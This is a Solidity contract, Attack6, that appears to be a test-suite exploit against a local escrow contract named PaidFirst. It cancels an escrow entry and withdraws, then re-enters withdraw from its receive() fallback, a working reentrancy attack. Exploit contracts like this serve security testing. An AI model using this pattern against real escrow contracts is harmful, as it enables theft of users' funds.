// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IEscrow} from "@argosy/interfaces/IEscrow.sol";
import {PaidFirst} from "./PaidFirst.sol";

contract Attack6 {
    PaidFirst private immutable escrow;
    address private immutable token;

    constructor(PaidFirst escrow_, address token_) {
        escrow = escrow_;
        token = token_;
    }

    function attack() external {
        escrow.cancel(2);
        escrow.withdraw(token);
    }

    receive() external payable {
        if (address(escrow).balance >= msg.value) escrow.withdraw(token);
    }
}
